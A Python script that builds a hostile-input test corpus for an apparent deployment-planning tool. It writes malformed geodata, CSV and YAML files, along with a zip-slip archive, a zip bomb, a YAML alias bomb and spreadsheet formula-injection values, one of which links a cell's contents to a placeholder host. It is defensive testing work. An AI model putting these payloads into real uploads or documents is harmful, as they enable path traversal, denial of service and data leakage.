"""Write the hostile-input corpus (run from the repository root; the files are committed).

Each file is malformed in one way a real upload or script input can be. tests/test_hostile.py
says which command reads each one and what its error must name. The million-vertex polygon
is made by the test itself (30 MB is too large to commit).
"""
from __future__ import annotations

import io
import json
import shutil
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
SQUARE = [[34.40, 31.40], [34.41, 31.40], [34.41, 31.41], [34.40, 31.41], [34.40, 31.40]]


# A V-shaped notch reaching to 0.1 mm of the bottom edge: valid in lon/lat, but the edge
# curves once projected and the notch crosses it.
NOTCH = [[34.30, 31.30], [34.50, 31.30], [34.50, 31.33], [34.405, 31.300000001],
         [34.30, 31.33], [34.30, 31.30]]


def fc(*features, **extra):
    return {"type": "FeatureCollection", **extra, "features": list(features)}


def feature(geometry, **props):
    return {"type": "Feature", "properties": props, "geometry": geometry}


def poly(ring=SQUARE):
    return {"type": "Polygon", "coordinates": [ring]}


def plan_row(**props):
    base = {"phase": 1, "sector_id": "P1-S01", "lead": "IDN", "troops_IDN": 300}
    return feature(None, **{**base, **props})


def write(name, content):
    path = HERE / name
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, (dict, list)):
        content = json.dumps(content)
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))


def layers():
    write("layers/invalid-json.geojson", '{"type": "FeatureCollection", "features": [')
    write("layers/crs-projected.geojson", fc(
        feature(poly([[600000, 3470000], [601000, 3470000], [601000, 3471000],
                      [600000, 3471000], [600000, 3470000]]), name="a"),
        crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::32636"}}))
    write("layers/out-of-range.geojson", fc(feature(poly([[190, 95], [191, 95], [191, 96],
                                                          [190, 96], [190, 95]]), name="far")))
    write("layers/self-intersecting.geojson", fc(feature(poly([[34.40, 31.40], [34.41, 31.41],
                                                               [34.41, 31.40], [34.40, 31.41],
                                                               [34.40, 31.40]]), name="bowtie")))
    write("layers/unclosed-ring.geojson", fc(feature(poly(SQUARE[:-1]), name="open")))
    write("layers/empty-collection.geojson", fc())
    write("layers/wrong-geometry.geojson", fc(feature({"type": "Point",
                                                       "coordinates": [34.4, 31.4]}, name="pt")))
    write("layers/nested-geometrycollection.geojson", fc(feature(
        {"type": "GeometryCollection", "geometries": [
            {"type": "GeometryCollection", "geometries": [poly()]}]}, name="nest")))
    write("layers/nan-coordinates.geojson",
          '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
          '{"name": "nan"}, "geometry": {"type": "Polygon", "coordinates": [[[NaN, 31.4], '
          '[34.41, 31.4], [34.41, 31.41], [34.4, 31.41], [NaN, 31.4]]]}}]}')
    write("layers/three-d.geojson", fc(feature(poly([c + [12.0] for c in SQUARE]), name="z")))
    write("layers/not-utf8.geojson", json.dumps(fc(feature(poly(), name="NAME"))).replace(
        "NAME", "Kh\udce9rbet").encode("utf-8", "surrogateescape"))
    write("layers/null-geometry.geojson", fc(feature(None, name="nothing")))
    # valid in longitude and latitude, self-intersecting once projected to UTM 36N
    write("layers/invalid-once-projected.geojson", fc(feature(poly(NOTCH), name="notch")))
    # zips: a member that climbs out of the folder, and a bomb (250 MB of zeros)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("../../evil.shp", b"x" * 100)
        z.writestr("layer.shp", b"x" * 100)
    write("layers/zip-slip.zip", buf.getvalue())
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("bomb.shp", "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(250):
                f.write(chunk)
    write("layers/zip-bomb.zip", buf.getvalue())


def plans():
    write("plans/invalid-json.geojson", '{"type": "FeatureCollection", "features": [{"type": ')
    write("plans/nan-troops.geojson", json.dumps(fc(plan_row(troops_IDN=float("nan")))))
    write("plans/infinity-troops.geojson", json.dumps(fc(plan_row(troops_IDN=float("inf")))))
    write("plans/duplicate-sector.geojson", fc(plan_row(), plan_row(lead="PAK")))
    write("plans/missing-sector-id.geojson", fc(plan_row(sector_id=None)))
    write("plans/unknown-sector.geojson", fc(plan_row(sector_id="P9-S99")))
    write("plans/wrong-types.geojson", fc(plan_row(phase="one", troops_IDN="many")))
    write("plans/empty-collection.geojson", fc())
    write("plans/not-a-collection.geojson", {"type": "Point", "coordinates": [34.4, 31.4]})
    write("plans/unknown-nation.csv", "phase,sector_id,nation,troops,lead\n"
                                       "1,P1-S01,ZZZ,300,true\n")
    write("plans/negative-troops.csv", "phase,sector_id,nation,troops,lead\n"
                                        "1,P1-S01,IDN,-300,true\n")
    write("plans/not-utf8.csv", "phase,sector_id,nation,troops,lead\n1,P1-S01,IDN,300,"
                                "vrai\u00e9\n".encode("latin-1"))
    write("plans/wrong-columns.csv", "when,where,who\n1,P1-S01,IDN\n")


def scenarios():
    write("scenarios/unknown-key/scenario.yaml", "name: X\nfavourite_colour: blue\n")
    write("scenarios/wrong-types/scenario.yaml",
          "name: [1, 2]\ntroop_unit: fifty\nphases: {a: 1}\n")
    write("scenarios/alias-bomb/scenario.yaml",
          'a: &a ["x","x","x","x","x","x","x","x","x"]\n'
          'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n'
          'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n'
          'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n')
    write("scenarios/not-utf8/scenario.yaml", "name: Gaza \u00e9t\u00e9\n".encode("latin-1"))
    write("scenarios/not-a-mapping/scenario.yaml", "- just\n- a list\n")
    # a whole scenario whose crossings have longitude and latitude swapped
    target = HERE / "scenarios/swapped-coordinates"
    source = HERE.parents[2] / "data" / "gaza-isf"
    target.mkdir(parents=True, exist_ok=True)
    for name in ("scenario.yaml", "territory.geojson", "held.geojson", "population.geojson",
                 "borders.geojson", "sectors.geojson"):
        shutil.copy(source / name, target / name)
    places = json.loads((source / "places.geojson").read_text(encoding="utf-8"))
    first = places["features"][0]["geometry"]
    first["coordinates"] = first["coordinates"][::-1]
    write("scenarios/swapped-coordinates/places.geojson", places)
    # layers valid in lon/lat that break once projected: a population polygon, a sector
    for case, layer, props in (("population-invalid-once-projected", "population",
                                {"name": "notch", "population": 10}),
                               ("sectors-invalid-once-projected", "sectors",
                                {"sector_id": "P1-S99", "phase": 1})):
        folder = gaza_copy(case, skip=layer)
        doc = json.loads((source / f"{layer}.geojson").read_text(encoding="utf-8"))
        doc["features"].append(feature(poly(NOTCH), **props))
        write(f"scenarios/{case}/{layer}.geojson", doc)
    # a CRS in US survey feet
    folder = gaza_copy("crs-in-feet")
    text = (folder / "scenario.yaml").read_text(encoding="utf-8")
    write("scenarios/crs-in-feet/scenario.yaml", text.replace("crs: EPSG:32636", "crs: EPSG:2263"))


FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")'


def formulas():
    """Identifiers that would start a spreadsheet formula, where a scenario or a plan names
    them: refused (they keep to planner.files.format.ID_PATTERN)."""
    source = HERE.parents[2] / "data" / "gaza-isf"
    gaza_copy("formula-sector-id", skip="sectors")
    doc = json.loads((source / "sectors.geojson").read_text(encoding="utf-8"))
    doc["features"][0]["properties"]["sector_id"] = FORMULA
    write("scenarios/formula-sector-id/sectors.geojson", doc)
    folder = gaza_copy("formula-contingent-code")
    text = (folder / "scenario.yaml").read_text(encoding="utf-8")
    write("scenarios/formula-contingent-code/scenario.yaml",
          text.replace("code: QAT", "code: '@SUM(1+1)'"))
    write("plans/formula-sector-id.csv", "phase,sector_id,nation,troops,lead\n"
                                          f"1,\"{FORMULA.replace(chr(34), chr(34) * 2)}\",IDN,300,true\n")


def gaza_copy(case, skip=None) -> Path:
    """The bundled scenario copied to scenarios/<case>/, without the layer ``skip``."""
    source, target = HERE.parents[2] / "data" / "gaza-isf", HERE / "scenarios" / case
    target.mkdir(parents=True, exist_ok=True)
    for name in ("scenario.yaml", "territory.geojson", "held.geojson", "population.geojson",
                 "places.geojson", "borders.geojson", "sectors.geojson"):
        if name != f"{skip}.geojson":
            shutil.copy(source / name, target / name)
    return target


if __name__ == "__main__":
    layers()
    plans()
    scenarios()
    formulas()
    print("corpus:", sum(1 for p in HERE.rglob("*") if p.is_file() and p.suffix != ".py"))
